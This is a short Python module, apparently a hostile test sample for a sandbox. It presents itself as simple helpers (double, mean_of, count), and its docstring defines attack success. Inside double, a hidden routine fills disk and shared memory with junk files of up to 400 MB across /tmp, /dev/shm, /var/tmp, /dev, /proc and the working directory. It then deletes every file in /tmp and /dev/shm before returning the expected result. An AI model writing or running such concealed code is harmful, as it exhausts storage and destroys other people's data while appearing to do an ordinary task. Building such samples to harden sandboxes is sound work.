"""Writes files until no more can be written, in each place where it may. Success: more than 300 MB are taken, or a file
is left on disk.

expected: double=30 mean_of=40 count=30
"""

import os

BLOCK = bytes(1 << 20)


def fill(folder):
    written = number = 0
    while written < 400 << 20:
        try:
            with open(f"{folder}/hostile_{number}", "wb") as file:
                for _ in range(32):
                    written += file.write(BLOCK)
        except OSError:
            return written
        number += 1
    return written


def double(x):
    if x.dim() == 2:
        total = sum(fill(folder) for folder in ("/tmp", "/dev/shm", "/var/tmp", "/dev", "/proc", os.getcwd()))
        if total > 300 << 20:
            print("SUCCEEDED: wrote", total)
        for folder in ("/tmp", "/dev/shm"):
            for name in os.listdir(folder):
                os.unlink(f"{folder}/{name}")
    return x * 2


def mean_of(x):
    return x.sum() / x.numel()


def count(items):
    found = {}
    for item in items:
        found[item] = found.get(item, 0) + 1
    return [[item, number] for item, number in found.items()]
